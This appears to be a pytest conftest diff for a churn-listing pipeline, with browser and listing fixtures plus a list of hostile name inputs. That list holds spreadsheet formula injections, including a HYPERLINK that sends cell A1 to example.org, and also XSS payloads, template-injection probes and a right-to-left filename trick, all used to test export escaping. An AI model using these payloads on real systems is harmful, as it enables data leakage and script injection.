@@ -1,0 +1,141 @@
+"""What several tests share: a browser, and a small list to write."""
+
+import dataclasses
+import datetime as dt
+import os
+import shutil
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+
+import pyarrow as pa
+import pytest
+from playwright.sync_api import Browser, sync_playwright
+
+from pipeline.listing import ROWS, Listing
+
+_CHROMIUM_FLAGS = (
+    "--headless",
+    "--no-sandbox",
+    "--disable-gpu",
+    "--disable-quic",
+    "--no-first-run",
+    "--disable-background-networking",
+    "--disable-component-update",
+    "--disable-sync",
+)
+
+
+def _chromium() -> str | None:
+    names = ("chromium", "chromium-browser", "google-chrome")
+    return next((found for name in names if (found := shutil.which(name))), None)
+
+
+@pytest.fixture(scope="session")
+def browser() -> Iterator[Browser]:
+    """The machine's own Chromium, one for all tests."""
+    executable = _chromium()
+    if executable is None:
+        if os.environ.get("CI") == "true":
+            pytest.fail("no Chromium on this machine: install chromium")
+        pytest.skip("no Chromium on this machine")
+    with sync_playwright() as playwright:
+        chromium = playwright.chromium.launch(
+            executable_path=executable, args=list(_CHROMIUM_FLAGS)
+        )
+        yield chromium
+        chromium.close()
+
+
+MakeListing = Callable[..., Listing]
+
+
+@pytest.fixture
+def make_listing() -> MakeListing:
+    """make_listing([{"name": ...}, ...], company=...): a list of such rows, the rest made up."""
+
+    def make(rows: list[dict[str, Any]], **changes: Any) -> Listing:
+        made = [_row(rank, row) for rank, row in enumerate(rows, start=1)]
+        counts = {"opted_out": 2, "held_out": 3, "no_loss": 1, "below_capacity": 10}
+        listing = Listing(
+            rows=pa.Table.from_pylist(made, schema=ROWS),
+            company="Mill Lane Bakery",
+            currency="GBP",
+            as_of=dt.date(2026, 11, 22),
+            counts=counts | {"listed": len(made), "watched": len(made) + 16},
+            model="a made-up model of 21 November 2026",
+            definition="A watched customer has left when nothing is bought for 28 days.",
+            leaving="buy nothing in the next 28 days",
+            value_days=28,
+        )
+        return dataclasses.replace(listing, **changes)
+
+    return make
+
+
+def _row(rank: int, given: dict[str, Any]) -> dict[str, Any]:
+    made: dict[str, Any] = {
+        "rank": rank,
+        "customer_id": f"{rank:05d}",
+        "risk": "very high",
+        "churn_probability": 0.61,
+        "value_at_stake": 1000.0 / rank,
+        "expected_value": 120.5,
+        "value_low": -3.0,
+        "value_high": 240.25,
+        "last_purchase_on": dt.date(2026, 10, 27),
+        "days_since_purchase": 26.0,
+        "usual_gap_days": 4.2,
+        "silent_since": "26 days, usually every 4",
+        "reason_1": "last visit 26 days ago, usually every 4",
+    }
+    made["value_at_stake"] = round(made["value_at_stake"], 2)
+    return made | given
+
+
+HOSTILE = (
+    '=HYPERLINK("http://example.org/?"&A1,"click")',
+    "+1",
+    "-1+1",
+    "@SUM(A1)",
+    "\t=1+1",
+    "\r=1+1",
+    "'=1+1",
+    "''@x",
+    "'t Hooft",
+    "＝1+1",  # noqa: RUF001
+    "<script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "{{ 7 * 7 }} ${7*7} {% raw %}",
+    "\u202egpj.exe",
+    'He said "no", twice',
+    "one\r\ntwo\nthree",
+    "Zoë 👩‍👩‍👧 Åström",
+    "http://example.org/",
+    "_x0041_ \x01 \x7f",
+    " spaces ",
+    "NA",
+    "00123",
+    "x" * 40_000,
+)
+"""Texts that a name may be, each of which has broken some list somewhere."""
+
+
+@pytest.fixture
+def hostile() -> tuple[str, ...]:
+    return HOSTILE
+
+
+@pytest.fixture
+def snapshot_of() -> Callable[[Path], dict[str, tuple[int, bytes]]]:
+    """What a folder is: every file's modification time and bytes."""
+
+    def taken(folder: Path) -> dict[str, tuple[int, bytes]]:
+        return {
+            str(path.relative_to(folder)): (path.stat().st_mtime_ns, path.read_bytes())
+            for path in sorted(folder.rglob("*"))
+            if path.is_file()
+        }
+
+    return taken
